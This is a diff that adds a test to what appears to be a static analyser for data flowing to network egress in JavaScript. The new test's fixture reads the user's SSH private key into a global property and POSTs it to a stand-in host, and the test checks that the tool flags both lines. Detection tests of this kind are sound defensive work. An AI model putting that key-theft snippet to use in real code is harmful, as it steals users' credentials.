@@ -340,3 +340,13 @@ def test_a_websocket_that_only_logs_what_it_receives_is_no_finding(tmp_path: Pat
         "ws.onmessage = (e) => console.log(JSON.parse(e.data));\n",
     )
     assert found == []
+
+
+def test_a_global_object_given_a_secret_property_keeps_what_it_is(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os');\n"
+        "window.k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
+        "window.fetch('https://c.example.invalid/u', { method: 'POST', body: window.k });\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 3]
